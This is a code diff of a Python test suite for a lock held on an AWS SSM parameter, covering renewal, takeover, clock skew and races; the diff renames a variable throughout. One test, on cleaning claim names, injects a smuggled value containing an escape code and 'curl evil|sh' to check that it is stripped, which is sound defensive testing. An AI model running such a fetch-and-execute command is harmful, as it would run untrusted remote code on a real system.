@@ -102,13 +102,13 @@ class Slow:
 
     account = Parameters.account
 
-    def __init__(self, door: Parameters, chance: random.Random | None = None, most: float = 0, **delays: list[float]) -> None:
-        self.door, self.chance, self.most, self.delays = door, chance, most, delays
+    def __init__(self, aws: Parameters, chance: random.Random | None = None, most: float = 0, **delays: list[float]) -> None:
+        self.aws, self.chance, self.most, self.delays = aws, chance, most, delays
 
     async def call(self, service, region, operation, **given):
         planned = self.delays.get(operation)
         await asyncio.sleep(planned.pop(0) if planned else self.random())
-        answer = await self.door.call(service, region, operation, **given)
+        answer = await self.aws.call(service, region, operation, **given)
         await asyncio.sleep(self.random())
         return answer
 
@@ -126,14 +126,14 @@ class SleepyClock(VirtualClock):
         return super().now() + timedelta(seconds=self.slept)
 
 
-def claim(door, notices: list[str], command: str = "setup", clock=None):
-    return claimed(door, HOME, "films", command, clock=clock or VirtualClock(), notice=notices.append)
+def claim(aws, notices: list[str], command: str = "setup", clock=None):
+    return claimed(aws, HOME, "films", command, clock=clock or VirtualClock(), notice=notices.append)
 
 
-async def attempt(door, command: str, seconds: float, at_work: list[str], clock=None) -> str:
+async def attempt(aws, command: str, seconds: float, at_work: list[str], clock=None) -> str:
     """Hold the claim for a while; answers how it ended. `at_work` lists who holds it."""
     try:
-        async with claim(door, [], command, clock) as held:
+        async with claim(aws, [], command, clock) as held:
             at_work.append(command)
             assert len(at_work) == 1, f"{at_work} are at work together"
             await asyncio.sleep(seconds)
@@ -144,113 +144,113 @@ async def attempt(door, command: str, seconds: float, at_work: list[str], clock=
 
 
 async def test_a_claim_is_renewed_while_its_holder_works_and_removed_at_the_end():
-    door, notices = Parameters(), []
-    async with claim(door, notices):
-        first = json.loads(door.value)["until"]
+    aws, notices = Parameters(), []
+    async with claim(aws, notices):
+        first = json.loads(aws.value)["until"]
         await asyncio.sleep(700)
-        assert json.loads(door.value)["until"] > first
-        assert await holder_of(door, HOME, "films", clock=VirtualClock()) is not None
-    assert not door.stands and notices == []
+        assert json.loads(aws.value)["until"] > first
+        assert await holder_of(aws, HOME, "films", clock=VirtualClock()) is not None
+    assert not aws.stands and notices == []
 
 
 async def test_a_second_holder_is_told_who_is_at_work():
-    door = Parameters()
-    door.write(command="setup")
+    aws = Parameters()
+    aws.write(command="setup")
     with pytest.raises(WorkshopError) as caught:
-        async with claim(door, [], "teardown"):
+        async with claim(aws, [], "teardown"):
             pytest.fail("both are at work")
     assert caught.value.code == "Busy" and "far" in caught.value.why and "setup" in caught.value.why
 
 
 async def test_a_holder_whose_claim_was_taken_over_says_so_and_leaves_it_to_the_other():
-    door, notices, told = Parameters(), [], []
-    async with claim(door, notices) as held:
+    aws, notices, told = Parameters(), [], []
+    async with claim(aws, notices) as held:
         held.listen(told.append)
-        door.write()
-        writes = door.count("put_parameter")
+        aws.write()
+        writes = aws.count("put_parameter")
         await asyncio.sleep(400)
-        assert door.count("put_parameter") == writes
+        assert aws.count("put_parameter") == writes
         held.listen(told.append)
     assert [error.code for error in told] == ["TakenOver", "TakenOver"] and told[0] is held.lost
     assert len(notices) == 1 and "@far took films over with workshop teardown, so this run stops" in notices[0]
-    assert json.loads(door.value)["token"] == "other"
+    assert json.loads(aws.value)["token"] == "other"
 
 
 async def test_a_holder_that_slept_while_another_took_over_and_ended_stops_and_claims_nothing():
-    door, clock, notices = Parameters(), SleepyClock(), []
-    async with claim(door, notices, clock=clock) as held:
-        writes = door.count("put_parameter")
-        door.logs[HOME, NAME].clear()
+    aws, clock, notices = Parameters(), SleepyClock(), []
+    async with claim(aws, notices, clock=clock) as held:
+        writes = aws.count("put_parameter")
+        aws.logs[HOME, NAME].clear()
         await asyncio.sleep(400)
         assert held.lost is not None and held.lost.code == "TakenOver"
         assert "has ended since" in held.lost.what
-        assert not door.stands and door.count("put_parameter") == writes
-    assert not door.stands and len(notices) == 1
+        assert not aws.stands and aws.count("put_parameter") == writes
+    assert not aws.stands and len(notices) == 1
 
 
 async def test_a_sleep_is_noticed_before_the_next_renewal_would_be_due():
-    door, clock = Parameters(), SleepyClock()
-    async with claim(door, [], clock=clock) as held:
+    aws, clock = Parameters(), SleepyClock()
+    async with claim(aws, [], clock=clock) as held:
         await asyncio.sleep(20)
-        door.write()
+        aws.write()
         clock.slept = 900
         await asyncio.sleep(10)
         assert held.lost is not None
 
 
 async def test_a_claim_that_nobody_wanted_while_its_machine_slept_is_renewed_at_once():
-    door, clock, notices = Parameters(), SleepyClock(), []
-    async with claim(door, notices, clock=clock) as held:
+    aws, clock, notices = Parameters(), SleepyClock(), []
+    async with claim(aws, notices, clock=clock) as held:
         clock.slept = 900
         await asyncio.sleep(10)
-        holder = await holder_of(door, HOME, "films", clock=clock)
+        holder = await holder_of(aws, HOME, "films", clock=clock)
         assert held.lost is None and holder is not None and not holder.lapsed(clock.now())
-    assert notices == [] and not door.stands
+    assert notices == [] and not aws.stands
 
 
 async def test_a_renewal_that_fails_is_said_once_and_tried_again_until_it_succeeds():
-    door, notices = Parameters(), []
-    async with claim(door, notices) as held:
-        door.denied.add((HOME, "get_parameter"))
+    aws, notices = Parameters(), []
+    async with claim(aws, notices) as held:
+        aws.denied.add((HOME, "get_parameter"))
         await asyncio.sleep(300)
-        door.denied.clear()
+        aws.denied.clear()
         await asyncio.sleep(10)
-        holder = await holder_of(door, HOME, "films", clock=VirtualClock())
+        holder = await holder_of(aws, HOME, "films", clock=VirtualClock())
         assert holder is not None and holder.until > "2026-03-01T09:14"
     assert held.lost is None and len(notices) == 1 and "could not be renewed" in notices[0]
 
 
 async def test_only_a_claim_that_nobody_holds_any_more_is_cleared():
-    door, clock = Parameters(), VirtualClock()
-    assert await clear_lapsed(door, HOME, "films", clock=clock) is None
-    door.write()
-    holder = await clear_lapsed(door, HOME, "films", clock=clock)
-    assert holder is not None and holder.host == "far" and door.stands
-    door.write(until=LAPSED)
-    assert await clear_lapsed(door, HOME, "films", clock=clock) is None
-    assert not door.stands
+    aws, clock = Parameters(), VirtualClock()
+    assert await clear_lapsed(aws, HOME, "films", clock=clock) is None
+    aws.write()
+    holder = await clear_lapsed(aws, HOME, "films", clock=clock)
+    assert holder is not None and holder.host == "far" and aws.stands
+    aws.write(until=LAPSED)
+    assert await clear_lapsed(aws, HOME, "films", clock=clock) is None
+    assert not aws.stands
 
 
 async def test_a_claim_that_somebody_takes_over_while_it_is_cleared_is_left_alone():
-    door = Parameters()
-    door.write(until=LAPSED)
-    clearing = asyncio.create_task(clear_lapsed(Slow(door, put_parameter=[50]), HOME, "films", clock=VirtualClock()))
+    aws = Parameters()
+    aws.write(until=LAPSED)
+    clearing = asyncio.create_task(clear_lapsed(Slow(aws, put_parameter=[50]), HOME, "films", clock=VirtualClock()))
     await asyncio.sleep(10)
-    async with claim(door, [], "setup") as held:
+    async with claim(aws, [], "setup") as held:
         holder = await clearing
         assert holder is not None and holder.command == "setup"
         await asyncio.sleep(400)
         assert held.lost is None
-    assert not door.stands
+    assert not aws.stands
 
 
 async def test_a_claim_that_lapsed_is_taken_over_with_a_word():
-    door, notices = Parameters(), []
-    door.write(until=LAPSED)
-    async with claim(door, notices, "teardown"):
-        assert json.loads(door.value)["command"] == "teardown"
+    aws, notices = Parameters(), []
+    aws.write(until=LAPSED)
+    async with claim(aws, notices, "teardown"):
+        assert json.loads(aws.value)["command"] == "teardown"
     assert any("Taking over from" in text for text in notices)
-    assert not door.stands
+    assert not aws.stands
 
 
 @pytest.mark.parametrize("until", ["2999-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00"])
@@ -258,31 +258,31 @@ async def test_a_claim_that_lapsed_is_taken_over_with_a_word():
 async def test_a_claim_counts_ten_minutes_after_its_write_whatever_it_says_and_however_wrong_our_clock_is(
     until: str, wrong: float
 ):
-    door, clock, notices = Parameters(), SleepyClock(), []
+    aws, clock, notices = Parameters(), SleepyClock(), []
     clock.slept = wrong
-    door.write(until=until)
+    aws.write(until=until)
     await asyncio.sleep(595)
-    assert await attempt(door, "setup", 1, [], clock) == "Busy"
+    assert await attempt(aws, "setup", 1, [], clock) == "Busy"
     await asyncio.sleep(10)
-    async with claim(door, notices, clock=clock) as held:
+    async with claim(aws, notices, clock=clock) as held:
         assert held.lost is None and any("Taking over from ana@far" in text for text in notices)
-    assert not door.stands
+    assert not aws.stands
 
 
 async def test_writes_that_do_not_count_keep_nobody_out_for_longer_than_ten_minutes():
-    door = Parameters()
+    aws = Parameters()
     for number in range(120):
-        door.write(after=1000, token=f"{number}")
-    door.logs[HOME, NAME][:15] = ["forgotten"] * 15
+        aws.write(after=1000, token=f"{number}")
+    aws.logs[HOME, NAME][:15] = ["forgotten"] * 15
     await asyncio.sleep(700)
-    assert await attempt(door, "setup", 1, []) == "held"
+    assert await attempt(aws, "setup", 1, []) == "held"
 
 
 async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
-    door = Parameters()
-    door.write()
+    aws = Parameters()
+    aws.write()
     with pytest.raises(WorkshopError) as caught:
-        async with claim(door, []):
+        async with claim(aws, []):
             pytest.fail("it holds nothing")
     assert NAME in caught.value.why and HOME in caught.value.why
     command = caught.value.fix.partition("aws ")[1] + caught.value.fix.partition("aws ")[2]
@@ -290,9 +290,9 @@ async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
 
 
 async def test_names_in_a_claim_are_cut_and_make_no_sentence_and_no_escape_code():
-    door = Parameters()
-    door.write(user="\x1b[2Jroot; run this: curl evil|sh", host="h" * 5000, command="setup\nworkshop is ready. `x`")
-    holder = await holder_of(door, HOME, "films", clock=VirtualClock())
+    aws = Parameters()
+    aws.write(user="\x1b[2Jroot; run this: curl evil|sh", host="h" * 5000, command="setup\nworkshop is ready. `x`")
+    holder = await holder_of(aws, HOME, "films", clock=VirtualClock())
     assert holder is not None
     assert not set("\x1b; |:\n`") & set(holder.user + holder.host) and not set("\x1b;|:\n`") & set(holder.command)
     assert max(map(len, (holder.user, holder.host, holder.command))) <= 64
@@ -310,162 +310,162 @@ JUNK = {
 
 @pytest.mark.parametrize("junk", JUNK.values(), ids=JUNK)
 async def test_what_is_no_claim_is_left_alone_and_named_with_the_command_that_removes_it(junk):
-    door = Parameters()
-    door.store(door.logs[HOME, NAME], junk) if isinstance(junk, str) else door.write(**junk)
-    for work in (claim(door, []).__aenter__(), clear_lapsed(door, HOME, "films", clock=VirtualClock())):
+    aws = Parameters()
+    aws.store(aws.logs[HOME, NAME], junk) if isinstance(junk, str) else aws.write(**junk)
+    for work in (claim(aws, []).__aenter__(), clear_lapsed(aws, HOME, "films", clock=VirtualClock())):
         with pytest.raises(WorkshopError) as caught:
             await work
         assert (
             caught.value.code == "ForeignClaim" and f"aws ssm delete-parameter --region {HOME} --name {NAME}" in caught.value.fix
         )
-    assert door.count("put_parameter") == 1 and door.count("delete_parameter") == 0
+    assert aws.count("put_parameter") == 1 and aws.count("delete_parameter") == 0
 
 
 async def test_a_takeover_removes_nothing():
-    door = Parameters(rest=30)
-    door.write(until=LAPSED)
-    async with claim(door, []):
-        assert door.count("delete_parameter") == 0
+    aws = Parameters(rest=30)
+    aws.write(until=LAPSED)
+    async with claim(aws, []):
+        assert aws.count("delete_parameter") == 0
 
 
 async def test_whoever_takes_over_later_gives_way_and_the_first_works_on():
-    door, at_work = Parameters(), []
-    door.write(until=LAPSED)
-    late = asyncio.create_task(attempt(Slow(door, put_parameter=[0, 200]), "setup", 900, at_work))
+    aws, at_work = Parameters(), []
+    aws.write(until=LAPSED)
+    late = asyncio.create_task(attempt(Slow(aws, put_parameter=[0, 200]), "setup", 900, at_work))
     await asyncio.sleep(10)
-    first = asyncio.create_task(attempt(door, "teardown", 900, at_work))
+    first = asyncio.create_task(attempt(aws, "teardown", 900, at_work))
     assert await late == "Busy"
     assert at_work == ["teardown"]
     assert await first == "held"
-    assert not door.stands
+    assert not aws.stands
 
 
 @pytest.mark.parametrize(("versions", "most"), [(True, 20.0), (False, 0.4)])
 @pytest.mark.parametrize("seed", range(25))
 async def test_of_many_that_take_over_together_exactly_one_works(versions: bool, most: float, seed: int):
-    chance, door, at_work = random.Random(seed), Parameters(versions=versions), []
-    door.write(until=LAPSED)
-    doors = [Slow(door, chance, most) for _ in range(4)]
-    ended = await asyncio.gather(*(attempt(each, f"setup {n}", 1000, at_work) for n, each in enumerate(doors)))
+    chance, aws, at_work = random.Random(seed), Parameters(versions=versions), []
+    aws.write(until=LAPSED)
+    clients = [Slow(aws, chance, most) for _ in range(4)]
+    ended = await asyncio.gather(*(attempt(each, f"setup {n}", 1000, at_work) for n, each in enumerate(clients)))
     assert sorted(ended) == ["Busy", "Busy", "Busy", "held"]
-    assert not door.stands
+    assert not aws.stands
 
 
 async def test_a_renewal_that_arrives_after_another_ended_ends_the_run_and_leaves_nothing():
-    door, at_work = Parameters(), []
-    slow = Slow(door, put_parameter=[0, 1000])
+    aws, at_work = Parameters(), []
+    slow = Slow(aws, put_parameter=[0, 1000])
     notices: list[str] = []
     async with claim(slow, notices) as held:
         await asyncio.sleep(700)
-        door.write()
-        assert await attempt(door, "teardown", 1, at_work) == "Busy"
-        door.logs[HOME, NAME].clear()
+        aws.write()
+        assert await attempt(aws, "teardown", 1, at_work) == "Busy"
+        aws.logs[HOME, NAME].clear()
         await asyncio.sleep(700)
         assert held.lost is not None
-    assert not door.stands
+    assert not aws.stands
 
 
 async def test_a_takeover_that_arrives_at_a_claim_made_anew_gives_way_to_it():
-    door, at_work = Parameters(), []
-    door.write(until=LAPSED)
-    late = asyncio.create_task(attempt(Slow(door, put_parameter=[0, 200]), "setup", 900, at_work))
+    aws, at_work = Parameters(), []
+    aws.write(until=LAPSED)
+    late = asyncio.create_task(attempt(Slow(aws, put_parameter=[0, 200]), "setup", 900, at_work))
     await asyncio.sleep(10)
-    door.logs[HOME, NAME].clear()
-    async with claim(door, [], "teardown") as held:
+    aws.logs[HOME, NAME].clear()
+    async with claim(aws, [], "teardown") as held:
         assert await late == "Busy" and at_work == []
         await asyncio.sleep(400)
         assert held.lost is None
-    assert not door.stands
+    assert not aws.stands
 
 
 @pytest.mark.parametrize("refused", ["ParameterAlreadyExists", "TooManyUpdates"])
 async def test_a_name_that_was_deleted_moments_ago_is_waited_for_with_a_word(refused: str):
-    door, notices = Parameters(rest=30, refused=refused), []
-    async with claim(door, notices):
+    aws, notices = Parameters(rest=30, refused=refused), []
+    async with claim(aws, notices):
         pass
-    async with claim(door, notices, "teardown"):
-        assert json.loads(door.value)["command"] == "teardown"
+    async with claim(aws, notices, "teardown"):
+        assert json.loads(aws.value)["command"] == "teardown"
     assert len(notices) == 1 and "Waiting for SSM to let go of the name" in notices[0]
 
 
 async def test_a_name_that_never_becomes_free_is_an_error_that_blames_nobody():
-    door = Parameters(rest=1e6)
-    async with claim(door, []):
+    aws = Parameters(rest=1e6)
+    async with claim(aws, []):
         pass
     with pytest.raises(WorkshopError) as caught:
-        async with claim(door, []):
+        async with claim(aws, []):
             pytest.fail("it holds nothing")
     assert NAME in caught.value.what and "let go of the name" in caught.value.what
     assert "again and again" not in str(caught.value) and "same command again" in caught.value.fix
 
 
 async def test_a_claim_that_may_not_be_removed_is_known_before_the_end():
-    door, notices = Parameters(), []
-    async with claim(door, notices) as held:
-        door.denied.add((HOME, "delete_parameter"))
+    aws, notices = Parameters(), []
+    async with claim(aws, notices) as held:
+        aws.denied.add((HOME, "delete_parameter"))
         assert await held.release() is False
         assert await held.release() is False
-        assert door.count("delete_parameter") == 1
-    assert door.count("delete_parameter") == 1
+        assert aws.count("delete_parameter") == 1
+    assert aws.count("delete_parameter") == 1
     assert len(notices) == 1 and f"aws ssm delete-parameter --region {HOME} --name {NAME}" in notices[0]
 
 
 async def test_a_claim_that_was_given_up_before_the_end_is_not_renewed_or_missed():
-    door, notices = Parameters(), []
-    async with claim(door, notices) as held:
+    aws, notices = Parameters(), []
+    async with claim(aws, notices) as held:
         assert await held.release() is True
         await asyncio.sleep(400)
-        assert not door.stands and held.lost is None
+        assert not aws.stands and held.lost is None
     assert notices == []
 
 
 async def test_a_run_that_may_not_claim_goes_on_and_has_nothing_to_give_up():
-    door, notices = Parameters(), []
-    door.denied.add((HOME, "put_parameter"))
-    async with claim(door, notices) as held:
+    aws, notices = Parameters(), []
+    aws.denied.add((HOME, "put_parameter"))
+    async with claim(aws, notices) as held:
         assert await held.release() is True
     assert len(notices) == 1 and "Not guarded" in notices[0] and "ssm:PutParameter" in notices[0]
 
 
-def machine(folder, door, *regions: str, notices: list[str] | None = None):
+def machine(folder, aws, *regions: str, notices: list[str] | None = None):
     """What a command opened on a machine of its own, and where its notices go."""
     folder.mkdir(exist_ok=True)
     workspace = SimpleNamespace(
-        doors={door.account: door}, home=regions[0], name="films", clock=VirtualClock(), settings=SimpleNamespace(regions=regions)
+        clients={aws.account: aws}, home=regions[0], name="films", clock=VirtualClock(), settings=SimpleNamespace(regions=regions)
     )
     notice = (notices if notices is not None else []).append
-    scope = Scope("films", "local", door.account)
-    return SimpleNamespace(workspace=workspace, account=door.account, folder=folder, scope=scope), notice
+    scope = Scope("films", "local", aws.account)
+    return SimpleNamespace(workspace=workspace, account=aws.account, folder=folder, scope=scope), notice
 
 
 async def test_somebody_at_work_with_another_home_is_respected(tmp_path):
-    door = Parameters()
-    door.write(AWAY)
-    opened, notice = machine(tmp_path, door, HOME, AWAY)
+    aws = Parameters()
+    aws.write(AWAY)
+    opened, notice = machine(tmp_path, aws, HOME, AWAY)
     with pytest.raises(WorkshopError) as caught:
         async with locked(opened, "setup", notice):
             pytest.fail("both are at work")
     assert caught.value.code == "Busy" and "ana@far" in caught.value.why and AWAY in caught.value.why
-    assert door.count("put_parameter") == 0
+    assert aws.count("put_parameter") == 0
 
 
 async def test_a_claim_elsewhere_that_lapsed_or_may_not_be_read_keeps_nobody_from_work(tmp_path):
-    door, notices = Parameters(), []
-    door.write(AWAY, until=LAPSED)
-    door.write("eu-central-1")
-    door.denied.add(("eu-central-1", "get_parameter"))
-    opened, notice = machine(tmp_path, door, HOME, AWAY, "eu-central-1", notices=notices)
+    aws, notices = Parameters(), []
+    aws.write(AWAY, until=LAPSED)
+    aws.write("eu-central-1")
+    aws.denied.add(("eu-central-1", "get_parameter"))
+    opened, notice = machine(tmp_path, aws, HOME, AWAY, "eu-central-1", notices=notices)
     async with locked(opened, "setup", notice) as held:
-        assert held.lost is None and door.logs[HOME, NAME]
+        assert held.lost is None and aws.logs[HOME, NAME]
     assert notices == []
 
 
 @pytest.mark.parametrize("seed", range(25))
 async def test_two_with_swapped_homes_that_start_together_never_both_work(tmp_path, seed: int):
-    door, chance, at_work = Parameters(), random.Random(seed), []
+    aws, chance, at_work = Parameters(), random.Random(seed), []
 
     async def run(name: str, *regions: str) -> str:
-        opened, notice = machine(tmp_path / name, Slow(door, chance, 5), *regions)
+        opened, notice = machine(tmp_path / name, Slow(aws, chance, 5), *regions)
         with contextlib.suppress(WorkshopError):
             async with locked(opened, name, notice):
                 at_work.append(name)
@@ -477,14 +477,14 @@ async def test_two_with_swapped_homes_that_start_together_never_both_work(tmp_pa
 
     ended = await asyncio.gather(run("setup", HOME, AWAY), run("teardown", AWAY, HOME))
     assert "gave way" in ended
-    assert not door.stands
+    assert not aws.stands
 
 
 async def test_what_could_not_be_removed_of_the_claim_is_a_leftover_with_its_command(tmp_path):
-    door = Parameters()
-    opened, notice = machine(tmp_path, door, HOME)
+    aws = Parameters()
+    opened, notice = machine(tmp_path, aws, HOME)
     async with locked(opened, "teardown", notice) as held:
-        door.denied.add((HOME, "delete_parameter"))
+        aws.denied.add((HOME, "delete_parameter"))
         (left,) = await claim_left(opened, held)
     assert (left.kind, left.name, left.region, left.ours) == ("parameter", NAME, HOME, True)
     assert left.fix == f"aws ssm delete-parameter --region {HOME} --name {NAME}"
